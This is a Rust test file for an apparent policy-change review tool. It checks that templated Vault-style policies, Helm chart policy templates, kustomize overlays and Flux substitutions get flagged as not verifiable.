#[test]
fn what_a_template_of_a_policy_makes_is_not_known() {
    let template = "path \"sys/*\" {\n  capabilities = ${caps}\n}\n";
    for name in ["evil.hcl.tpl", "evil.hcl.j2", "evil.ctmpl"] {
        changes(
            &[],
            &[(name, template)],
            &["high[not-checked]", "a template of a policy"],
        );
    }
    changes(
        &[("a.hcl.tpl", template), ("below/render.json", "{\"caps\": [\"read\"]}")],
        &[("below/render.json", "{\"caps\": [\"sudo\"]}")],
        &["high[not-checked]", "render.json"],
    );
    let chart = "kind: Policy\nmetadata:\n  name: {{ .Values.n }}\nspec:\n  policy: {{ .Values.p | quote }}\n";
    changes(
        &[],
        &[("templates/p.yaml", chart)],
        &["high[not-checked]", "templates/p.yaml"],
    );
    let whole = "kind: Policy\nspec: {{ .Values.p }}\n";
    changes(
        &[],
        &[("templates/p.yaml", whole)],
        &["high[not-checked]", "templates/p.yaml"],
    );
    // One that cannot be read is not known to be as it was.
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("base/a.hcl.tpl", template),
        ("pr/app.hcl", READ),
        ("pr/a.hcl.tpl", template),
    ]);
    for side in ["base", "pr"] {
        fs::write(ground.at(&format!("{side}/values.ini")), b"caps=\xff\n").unwrap();
    }
    ground.check(1, &["high[not-checked]", "values.ini"]);
    // Without a template beside it, a file of values is any other.
    let ground = Ground::new(&[
        ("base/app.hcl", READ),
        ("pr/app.hcl", READ),
        ("pr/render.json", "{\"caps\": 1}"),
    ]);
    ground.check(0, &["check passed"]);
}

#[test]
fn what_kustomize_makes_of_policies_is_not_known() {
    let plain = "resources: [p.yaml]\n";
    for more in [
        "nameSuffix: -x\n",
        "namePrefix: de\n",
        "patches:\n- target: {kind: Policy}\n  patch: |-\n    - op: copy\n      from: /metadata/annotations/x\n      path: /spec/policy\n",
        "replacements:\n- source: {kind: ConfigMap, name: c}\n",
        "components:\n- ../other\n",
        "bases:\n- github.com/org/policies//x?ref=main\n",
    ] {
        let changed = format!("{plain}{more}");
        changes(
            &[("kustomization.yaml", plain)],
            &[("kustomization.yaml", &changed)],
            &["high[not-checked]", "kustomization.yaml"],
        );
        // Just so in the base, it is no news; without it the policies are others again.
        changes(
            &[("kustomization.yaml", &changed)],
            &[("kustomization.yaml", plain)],
            &["high[not-checked]", "and the change does not"],
        );
    }
    let flux = "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nspec:\n  postBuild:\n    substitute: {a: b}\n";
    changes(&[], &[("flux.yaml", flux)], &["high[not-checked]", "flux.yaml"]);
}
